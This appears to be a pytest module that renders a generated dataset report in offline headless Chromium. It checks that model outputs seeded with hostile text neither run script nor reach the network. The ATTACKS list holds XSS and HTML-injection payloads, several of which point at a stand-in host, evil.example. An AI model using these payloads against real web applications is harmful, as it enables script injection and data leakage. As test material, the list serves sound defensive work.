"""A report, and a browser to open it in."""

import json
import os
import shutil
from collections.abc import Iterator, Sequence
from pathlib import Path

import msgspec
import pytest
from playwright.sync_api import Browser, Page, sync_playwright

from m2l import slices
from m2l.engine.fake import sample_words
from m2l.export import read
from m2l.records import Completion, Request
from m2l.report.page import PAGE, write
from tests import helpers
from tests.conftest import copy_project

LANGUAGES = ("eng_Latn", "arb_Arab", "hin_Deva", "tha_Thai", "zho_Hans", "amh_Ethi")

ATTACKS = (
    "<script>window.pwned = 1</script>",
    "</script><script>window.pwned = 1</script>",
    "<!--<script>window.pwned = 1",
    '<img src=x onerror="window.pwned = 1">',
    '"><svg/onload=window.pwned=1>',
    "'-window.pwned=1-'",
    '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
    '<a href="javascript:window.pwned=1">here</a>',
    "<style>@import 'http://evil.example/a.css'; * { background: url(http://evil.example/b) }</style>",
    '<link rel="stylesheet" href="http://evil.example/c.css"><base href="http://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<form action="http://evil.example/"><input name=words autofocus onfocus=window.pwned=1></form>',
    "<object data=http://evil.example/d></object><embed src=http://evil.example/e>",
    "&lt;img src=x onerror=window.pwned=1&gt; &#60;script&#62;window.pwned=1",
    "{{ constructor.constructor('window.pwned = 1')() }} ${window.pwned = 1}",
    "\u2028window.pwned = 1//\u2029 \u202e txet",
    '<div id="data">[]</div><div id="list"></div>',
)
"""What would do harm if it were taken for anything but text; each would set `window.pwned` or ask the network."""

_ARGUMENTS = (
    "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
    "--disable-component-update", "--disable-sync",
)  # fmt: skip


class Hostile(helpers.Counting):
    """The fake engine, every other answer of which holds one of the attacks."""

    def generate(self, requests: Sequence[Request]) -> Iterator[tuple[int, Completion]]:
        for index, request in enumerate(requests):
            attack = f"{ATTACKS[index % len(ATTACKS)]} " if index % 2 else ""
            words = sample_words(request)
            yield index, msgspec.structs.replace(words, text=attack + words.text.strip())


@pytest.fixture(scope="session")
def browser() -> Iterator[Browser]:
    """Chromium without a window; where there is none the test is skipped, but not in CI."""
    path = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
    if path is None:
        if os.environ.get("CI"):
            pytest.fail("no Chromium, which .ci/run installs")
        pytest.skip("no Chromium here to open the report in (Debian: apt install chromium fonts-noto-core)")
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=path, args=list(_ARGUMENTS))
        yield chromium
        chromium.close()


def build(root: Path, engine: helpers.Counting, *overrides: str, seeds: Sequence[dict[str, str]] = ()) -> Path:
    """Build the starter recipe in six scripts in a new project, write its report, and return the page.

    `seeds` stand before the English ones.
    """
    from m2l import assemble
    from m2l import build as builds

    copy_project(root)
    (root / "params.yaml").write_text(
        f"languages: [{', '.join(LANGUAGES)}]\noverrides: [recipe=starter, recipe.repairs=0, engine=fake]\n"
    )
    path = root / "data/seeds/starter/eng_Latn.jsonl"
    header, *rest = path.read_text(encoding="utf-8").splitlines()
    path.write_text("\n".join([header, *map(json.dumps, seeds), *rest]) + "\n", encoding="utf-8")
    composed = helpers.compose(root, *overrides)
    slices.write(composed, root / slices.FOLDER)
    assemble.run_all(root, composed, tables=builds.TABLES, dist=builds.DIST, engine=engine)
    write(root, root / builds.DIST, root / PAGE)
    assert read(root / builds.DIST).sizes["full_data"]["train"] > 100
    return root / PAGE


@pytest.fixture(scope="session")
def report(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The report on a dataset of six languages."""
    return build(tmp_path_factory.mktemp("report") / "project", helpers.Counting())


class Watched:
    """A page and what it did that nobody should see: requests, messages, dialogs."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.requests: list[str] = []
        self.messages: list[str] = []
        page.on("request", lambda request: self.requests.append(request.url))
        page.on("console", lambda message: self.messages.append(message.text))
        page.on("pageerror", lambda error: self.messages.append(str(error)))
        page.on("dialog", lambda dialog: self.messages.append(dialog.message))
        page.on("popup", lambda popup: self.messages.append(popup.url))


@pytest.fixture
def opened(browser: Browser, report: Path) -> Iterator[Watched]:
    """The report in a browser that has no network."""
    context = browser.new_context(viewport={"width": 1280, "height": 900}, reduced_motion="reduce", offline=True)
    watched = Watched(context.new_page())
    watched.page.goto(report.as_uri())
    yield watched
    assert watched.messages == []
    assert watched.requests == [report.as_uri()]
    context.close()
